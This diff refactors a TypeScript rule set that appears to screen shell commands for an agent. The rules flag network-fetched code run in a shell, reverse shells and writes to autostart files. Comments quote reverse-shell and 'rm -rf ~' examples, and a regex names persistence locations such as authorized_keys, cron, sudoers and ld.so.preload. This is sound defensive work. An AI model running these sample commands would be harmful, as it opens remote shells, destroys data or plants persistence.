@@ -1,23 +1,15 @@
-import type { Effect } from '../../../programs/effect';
+import type { EffectOf } from '../../../programs/effect';
 import type { Invocation, Stream, Unread } from '../../../shell/invocation';
 import { readCommand } from '../../../shell/read-command';
 import { resolvePath } from '../../../shell/paths';
 import { shellNames } from '../../../programs/shells';
 import { isForeign } from '../../../shell/reader/stream';
 import { streamIn } from '../../../shell/reader/words';
-import {
-  effectRule,
-  objection,
-  written,
-  type EffectRule,
-  type InvocationRule,
-  type LineRule,
-  type Objection,
-} from './rule';
+import { effectRule, lineRule, objection, type EffectRule, type LineRule, type Objection } from './rule';
 
 const way = 'Download it to a file inside the project, read it, and let the person decide whether to run it.';
 
-function sayForeign(stream: Extract<Stream, { kind: 'remote' | 'decoded' }>, part: string): Objection {
+function sayForeign(stream: Extract<Stream, { kind: 'remote' | 'decoded' }>, part: Invocation | string): Objection {
   return stream.kind === 'remote'
     ? objection(part, 'It runs unread code straight from the network.', way)
     : objection(
@@ -30,21 +22,17 @@ function sayForeign(stream: Extract<Stream, { kind: 'remote' | 'decoded' }>, par
 const runner = (unread: Unread): string =>
   (unread.text === '' ? `… | ${unread.runner}` : `${unread.runner} ${unread.text}`).slice(0, 160);
 
-export const foreignCodeRule: LineRule = {
-  id: 'run-foreign-code',
-  level: 'standard',
-  checkLine(reading) {
-    for (const unread of reading.unread) {
-      if (isForeign(unread.stream)) return sayForeign(unread.stream, runner(unread));
-    }
-    for (const invocation of reading.invocations) {
-      if (invocation.program !== undefined) continue;
-      const stream = streamIn(invocation.name);
-      if (isForeign(stream)) return sayForeign(stream, written(invocation));
-    }
-    return undefined;
-  },
-};
+const foreignCodeRule = lineRule('run-foreign-code', (reading) => {
+  for (const unread of reading.unread) {
+    if (isForeign(unread.stream)) return sayForeign(unread.stream, runner(unread));
+  }
+  for (const invocation of reading.invocations) {
+    if (invocation.program !== undefined) continue;
+    const stream = streamIn(invocation.name);
+    if (isForeign(stream)) return sayForeign(stream, invocation);
+  }
+  return undefined;
+});
 
 /** Strings in code, and what a substitution of sed puts in. */
 function fragmentsOf(text: string): readonly string[] {
@@ -66,48 +54,40 @@ function textsBefore({ pipeline }: Invocation, all: readonly Invocation[]): read
 }
 
 /** `awk 'BEGIN { print "rm -rf ~" }' | sh`: what a program prints for a shell is judged by the text it has to print. */
-export const printedCodeRule: LineRule = {
-  id: 'run-printed-code',
-  level: 'standard',
-  checkLine(reading, view, judge) {
-    const hidden = reading.unread.filter(({ stream, runner: by }) => stream.kind === 'unknown' && runsText.test(by));
-    if (hidden.length === 0) return undefined;
-    const fed = reading.invocations.filter(
-      ({ program, stdin }) => program !== undefined && shellNames.has(program) && stdin.kind === 'unknown',
-    );
-    const texts = [
-      ...hidden.flatMap(({ text }) => fragmentsOf(text)),
-      ...fed.flatMap((one) => textsBefore(one, reading.invocations)),
-    ];
-    for (const text of new Set(texts.filter((one) => /\w\s+\S/.test(one)).slice(0, 40))) {
-      const refused = judge(readCommand(text, { cwd: view.roots[0] ?? '/', home: view.home }), view);
-      if (refused !== undefined) {
-        return objection(
-          text.trim().slice(0, 160),
-          `A shell runs the text printed here: ${refused.why}`,
-          refused.instead,
-        );
-      }
+const printedCodeRule = lineRule('run-printed-code', (reading, view, judge) => {
+  const hidden = reading.unread.filter(({ stream, runner: by }) => stream.kind === 'unknown' && runsText.test(by));
+  if (hidden.length === 0) return undefined;
+  const fed = reading.invocations.filter(
+    ({ program, stdin }) => program !== undefined && shellNames.has(program) && stdin.kind === 'unknown',
+  );
+  const texts = [
+    ...hidden.flatMap(({ text }) => fragmentsOf(text)),
+    ...fed.flatMap((one) => textsBefore(one, reading.invocations)),
+  ];
+  for (const text of new Set(texts.filter((one) => /\w\s+\S/.test(one)).slice(0, 40))) {
+    const refused = judge(readCommand(text, { cwd: view.roots[0] ?? '/', home: view.home }), view);
+    if (refused !== undefined) {
+      return objection(
+        text.trim().slice(0, 160),
+        `A shell runs the text printed here: ${refused.why}`,
+        refused.instead,
+      );
     }
-    return undefined;
-  },
-};
+  }
+  return undefined;
+});
 
 /** A shell or interpreter that waits for input: the client can type into it without calling a hook. */
-export const typedCodeRule: LineRule = {
-  id: 'typed-code',
-  level: 'standard',
-  checkLine({ invocations }, { typesUnseen }) {
-    if (typesUnseen === undefined) return undefined;
-    const waiting = invocations.find(
-      ({ stdin, effects }) =>
-        stdin.kind === 'inherited' && effects?.some((one) => one.kind === 'run' && one.code.form === 'input') === true,
-    );
-    if (waiting === undefined) return undefined;
-    const why = `It waits for input, and no hook sees what ${typesUnseen} types into it.`;
-    return objection(written(waiting), why, "Give it the code at once: `bash -c '…'`, `python3 -c '…'`, or a file.");
-  },
-};
+const typedCodeRule = lineRule('typed-code', ({ invocations }, { typesUnseen }) => {
+  if (typesUnseen === undefined) return undefined;
+  const waiting = invocations.find(
+    ({ stdin, effects }) =>
+      stdin.kind === 'inherited' && effects?.some((one) => one.kind === 'run' && one.code.form === 'input') === true,
+  );
+  if (waiting === undefined) return undefined;
+  const why = `It waits for input, and no hook sees what ${typesUnseen} types into it.`;
+  return objection(waiting, why, "Give it the code at once: `bash -c '…'`, `python3 -c '…'`, or a file.");
+});
 
 const runsText = /^(?:eval|source|\.|(?:ba|z|da|k|fi|a)?sh)(?:\s|$)/;
 
@@ -116,84 +96,67 @@ const shellWay = 'Nothing in a project needs a shell for the network; ask the pe
 const shellWhy = 'It gives a shell to another machine on the network.';
 
 /** `bash -i >& /dev/tcp/host/port 0>&1`. */
-function redirectedShell(invocation: Invocation): Objection | undefined {
-  const connected = invocation.redirects.some(
-    (redirect) => redirect.target !== undefined && /^\/dev\/(?:tcp|udp)\//.test(redirect.target.text),
+export const redirectedShellRule = lineRule('remote-shell', ({ invocations }) => {
+  const shell = invocations.find(
+    ({ program, redirects }) =>
+      program !== undefined &&
+      shellNames.has(program) &&
+      redirects.some(({ target }) => target !== undefined && /^\/dev\/(?:tcp|udp)\//.test(target.text)) &&
+      redirects.some(({ fd, operator }) => operator === '<>' || (fd === '0' && /^[<>]&$/.test(operator))),
   );
-  const reads = invocation.redirects.some(
-    (redirect) =>
-      (redirect.fd === '0' && redirect.operator === '>&') ||
-      redirect.operator === '<>' ||
-      (redirect.fd === '0' && redirect.operator === '<&'),
-  );
-  return connected && reads ? objection(written(invocation), shellWhy, shellWay) : undefined;
-}
-
-export const remoteShellRules: readonly InvocationRule[] = [
-  { id: 'remote-shell', level: 'standard', programs: [...shellNames], check: redirectedShell },
-];
+  return shell && objection(shell, shellWhy, shellWay);
+});
 
 /** `cat pipe | sh -i | nc host port`: orders come from a pipe, answers leave through the network. */
-export const pipedShellRule: LineRule = {
-  id: 'remote-shell',
-  level: 'standard',
-  checkLine({ invocations }) {
-    for (const shell of invocations) {
-      if (
-        shell.program === undefined ||
-        !shellNames.has(shell.program) ||
-        shell.stdin.kind === 'text' ||
-        shell.stdin.kind === 'inherited'
-      ) {
-        continue;
-      }
-      if (!shell.args.every(({ text }) => /^-[is]+$/.test(text))) continue;
-      const sender = invocations.find(
-        ({ pipeline, effects }) =>
-          pipeline.id === shell.pipeline.id &&
-          pipeline.position > shell.pipeline.position &&
-          effects?.some(({ kind }) => kind === 'send') === true,
-      );
-      if (sender !== undefined) return objection(written(sender), shellWhy, shellWay);
+const pipedShellRule = lineRule('remote-shell', ({ invocations }) => {
+  for (const shell of invocations) {
+    if (
+      shell.program === undefined ||
+      !shellNames.has(shell.program) ||
+      shell.stdin.kind === 'text' ||
+      shell.stdin.kind === 'inherited'
+    ) {
+      continue;
     }
-    return undefined;
-  },
-};
+    if (!shell.args.every(({ text }) => /^-[is]+$/.test(text))) continue;
+    const sender = invocations.find(
+      ({ pipeline, effects }) =>
+        pipeline.id === shell.pipeline.id &&
+        pipeline.position > shell.pipeline.position &&
+        effects?.some(({ kind }) => kind === 'send') === true,
+    );
+    if (sender !== undefined) return objection(sender, shellWhy, shellWay);
+  }
+  return undefined;
+});
 
-export const remoteShellEffectRules: readonly EffectRule[] = [
-  effectRule('remote-shell', 'send', ({ shell }, invocation) =>
-    shell === true ? objection(written(invocation), shellWhy, shellWay) : undefined,
-  ),
-];
+const sentShellRule = effectRule('remote-shell', 'send', ({ shell }, invocation) =>
+  shell === true ? objection(invocation, shellWhy, shellWay) : undefined,
+);
 
 /** Files that run by themselves: git hooks, what a shell reads at its start, schedules, and keys that open the machine. */
 const runsByItself =
   /\/\.git\/hooks\/|\/\.husky\/|\/\.ssh\/(?:authorized_keys2?|rc|config)$|\/\.(?:bashrc|bash_profile|bash_login|bash_logout|profile|zshrc|zshenv|zprofile|zlogin)$|\/\.config\/(?:fish\/|autostart\/|systemd\/)|^\/etc\/(?:cron|sudoers|profile|bash\.bashrc|zsh|rc\.local|ld\.so\.preload)|^\/var\/spool\/cron|\/Library\/Launch(?:Agents|Daemons)\//;
 
-function planting(
-  { path, cwd, content, from }: Extract<Effect, { kind: 'write' }>,
-  invocation: Invocation,
-): Objection | undefined {
+function planting({ path, cwd, content, from }: EffectOf<'write'>, invocation: Invocation): Objection | undefined {
   const place = path.value === undefined || invocation.elsewhere ? undefined : resolvePath(cwd, path.value);
   if (place === undefined || !runsByItself.test(place)) return undefined;
   const downloads = invocation.effects?.some(({ kind }) => kind === 'fetch') === true;
   const foreign = content === undefined ? from === undefined && downloads : isForeign(content);
   return foreign
-    ? objection(
-        written(invocation),
-        'It writes unread text from the network to a file that takes effect automatically.',
-        way,
-      )
+    ? objection(invocation, 'It writes unread text from the network to a file that takes effect automatically.', way)
     : undefined;
 }
 
-export const plantingRules: readonly EffectRule[] = [effectRule('run-foreign-code', 'write', planting)];
+export const foreignCodeRules: readonly EffectRule[] = [
+  sentShellRule,
+  effectRule('run-foreign-code', 'write', planting),
+];
 
 /** Code that is not visible from here: only `strict` refuses it, and auto-review never approves it. */
-export const unseenCodeRule: LineRule = {
-  id: 'run-unseen-code',
-  level: 'strict',
-  checkLine(reading, { typesUnseen }) {
+const unseenCodeRule = lineRule(
+  'run-unseen-code',
+  (reading, { typesUnseen }) => {
     // A counter that was read from a file is no reason to refuse; auto-review leaves it to the person.
     const unread = reading.unread.find(
       ({ why, runner, stream }) =>
@@ -207,22 +170,24 @@ export const unseenCodeRule: LineRule = {
     );
     return hidden === undefined
       ? undefined
-      : objection(written(hidden), 'Which program it runs is not in the command.', 'Write the program out.');
+      : objection(hidden, 'Which program it runs is not in the command.', 'Write the program out.');
   },
-};
+  'strict',
+);
 
 /** A line that is too long or too deeply nested to parse may hide anything. */
-export const unreadableRule: LineRule = {
-  id: 'too-long-to-read',
-  level: 'standard',
-  checkLine(reading) {
-    const cut = reading.unread.find((entry) => entry.why === 'too-long' || entry.why === 'too-deep');
-    if (cut === undefined) return undefined;
-    const why = cut.why === 'too-long' ? 'It is too long to be fully parsed.' : 'It is nested too deeply to be parsed.';
-    return objection(
-      `${reading.source.slice(0, 80)}…`,
-      why,
-      'Split it into several commands, or write a script file that can be reviewed.',
-    );
-  },
-};
+const unreadableRule = lineRule('too-long-to-read', (reading) => {
+  const cut = reading.unread.find((entry) => entry.why === 'too-long' || entry.why === 'too-deep');
+  if (cut === undefined) return undefined;
+  const why = cut.why === 'too-long' ? 'It is too long to be fully parsed.' : 'It is nested too deeply to be parsed.';
+  return objection(
+    `${reading.source.slice(0, 80)}…`,
+    why,
+    'Split it into several commands, or write a script file that can be reviewed.',
+  );
+});
+
+export const foreignLineRules: readonly LineRule[] = [pipedShellRule, foreignCodeRule, printedCodeRule, typedCodeRule];
+
+/** What no other rule could judge. */
+export const unseenLineRules: readonly LineRule[] = [unreadableRule, unseenCodeRule];
